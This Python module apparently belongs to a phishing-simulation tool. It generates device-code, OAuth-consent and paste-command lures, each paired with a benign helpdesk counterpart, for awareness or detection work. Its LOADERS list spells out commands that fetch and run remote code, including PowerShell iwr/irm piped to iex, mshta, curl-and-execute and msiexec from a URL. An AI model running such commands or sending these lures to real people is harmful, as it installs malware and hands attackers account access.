"""Attacks that get a right granted at the true place: device codes, consent, pasted commands."""

from urllib.parse import quote

from chaffinch.core.vocabulary import Goal, Impersonated, Vector
from chaffinch.simulate.attacks.accounts import desk_impostor
from chaffinch.simulate.attacks.cast import somebody
from chaffinch.simulate.attacks.lure import Telling, helpdesk, look_of, own_look, telling
from chaffinch.simulate.attacks.underworld import (
    OFTEN,
    TYPED,
    Camp,
    camp,
    invented_name,
    link_host,
    lure_url,
    true_url,
)
from chaffinch.simulate.attacks.words import grants as words
from chaffinch.simulate.declare import Case, attack, pair
from chaffinch.simulate.letter import Letter, Party
from chaffinch.simulate.stage import Stage

CODE_LETTERS = "BCDFGHJKLMNPQRSTVWXZ"
SCOPES = ("openid", "profile", "offline_access", "mail.read", "mail.send", "files.readwrite.all")
LOADERS = (
    'powershell -w h -c "iwr {url} -useb | iex"',
    "mshta {url}.hta # Verification ID {number}",
    'cmd /c "curl -s {url} -o %TEMP%\\v.cmd && %TEMP%\\v.cmd"',
    "msiexec /qn /i {url}.msi",
    "conhost --headless powershell -ep bypass -c \"irm '{url}' | iex\" <# I am not a robot #>",
)
ERRANDS = (
    "gpupdate /force", "outlook.exe /cleanreminders", "ms-settings:windowsupdate",
    "\\\\files.{domain}\\tools\\vpn-setup.cmd", "control printers", "outlook.exe /resetnavpane",
    "\\\\print.{domain}\\floor2", "w32tm /resync",
)  # fmt: skip


@attack(goal=Goal.ACCESS, vector=Vector.LINK, impersonated=Impersonated.EMPLOYEE)
def device_code(stage: Stage) -> Case:
    """A code of the attacker's to be entered at the true sign-in page; our IT enrols devices so."""
    reader = somebody(stage)
    told, rng = telling(stage, words.DEVICE_CODE, reader), stage.rng
    variant = rng.choice(("desk", "colleague-name", "stranger"))
    page = f"https://{sign_in_host(stage)}/{rng.choice(('device', 'activate', 'devicelogin'))}"
    place = _asking(stage, variant)

    def about() -> dict[str, object]:
        code = "".join(rng.choices(CODE_LETTERS, k=8))
        product = told.stage.tell(words.PRODUCTS)
        return {"code": f"{code[:4]}-{code[4:]}", "product": product[:1].lower() + product[1:]}

    return pair(
        told.typed(place.party, page, **about()),
        told.typed(helpdesk(stage, told.reader), page, **about()),
        variant,
    )


def sign_in_host(stage: Stage) -> str:
    """Where everybody here signs in: at the mail service."""
    return f"login.{stage.company.tool('mail').domain}"


def _asking(stage: Stage, variant: str) -> Camp:
    if variant == "desk":
        return desk_impostor(stage)
    known = stage.rng.choice(stage.company.people).name
    name = known if variant == "colleague-name" else invented_name(stage.rng)
    return camp(stage, name, "meeting", kinds=TYPED)


@attack(goal=Goal.ACCESS, vector=Vector.LINK, impersonated=Impersonated.BRAND)
def consent_phishing(stage: Stage) -> Case:
    """Rights for an application of the attacker's, asked at the true identity provider."""
    reader = somebody(stage)
    told, rng = telling(stage, words.CONSENT, reader), stage.rng
    variant = rng.choice(("application", "desk"))
    app, ours = stage.tell(words.APPS), stage.tell(words.APPS)
    place = camp(stage, app, "account", kinds=OFTEN) if variant == "application" else None
    party = place.party if place else desk_impostor(stage).party
    home = f"{rng.choice(('apps', 'planner', 'intranet'))}.{stage.company.domain}"
    bad, good = _consent_url(stage, link_host(rng, "account")), _consent_url(stage, home)
    desk = helpdesk(stage, reader)
    return pair(_either(told, party, app, bad), _either(told, desk, ours, good), variant)


def _either(told: Telling, author: Party, app: str, link: str) -> Letter:
    """The request typed or printed."""
    if told.stage.rng.random() < 0.5:
        return told.typed(author, link, app=app)
    look = own_look(told.stage)
    return told.printed(author, look_of(told.stage, app, look.picture_host), link, app=app)


def _consent_url(stage: Stage, host: str) -> str:
    rng = stage.rng
    scopes = sorted(rng.sample(SCOPES, rng.randrange(3, 6)))
    client = f"{rng.getrandbits(32):08x}-{rng.getrandbits(16):04x}-4{rng.getrandbits(12):03x}"
    back = quote(f"https://{host}/{rng.choice(('callback', 'oauth', 'auth/return'))}", safe="")
    query = f"client_id={client}&response_type=code&redirect_uri={back}"
    wanted = f"scope={quote(' '.join(scopes))}&prompt=consent&state={rng.getrandbits(32):x}"
    return f"https://{sign_in_host(stage)}/oauth2/v2/authorize?{query}&{wanted}"


@attack(goal=Goal.MALWARE, vector=Vector.LINK, impersonated=Impersonated.EMPLOYEE)
def paste_command(stage: Stage) -> Case:
    """A command to be pasted into the Run box; our helpdesk now and then helps in the same way."""
    reader = somebody(stage)
    told, rng = telling(stage, words.PASTE, reader), stage.rng
    variant = rng.choice(("mail", "mail-and-page"))
    place, desk = desk_impostor(stage), helpdesk(stage, told.reader)
    loader = rng.choice(LOADERS).format(
        url=f"https://{place.host}/{rng.getrandbits(32):08x}", number=rng.randrange(1000, 9999)
    )
    errand = rng.choice(ERRANDS).format(domain=stage.company.domain)
    has_page = variant == "mail-and-page"
    page = lure_url(stage, place.host, reader) if has_page else ""
    manual = true_url(stage, f"intranet.{stage.company.domain}", "howto", reader)
    return pair(
        told.typed(place.party, page, command=loader),
        told.typed(desk, manual if has_page else "", command=errand),
        variant,
    )
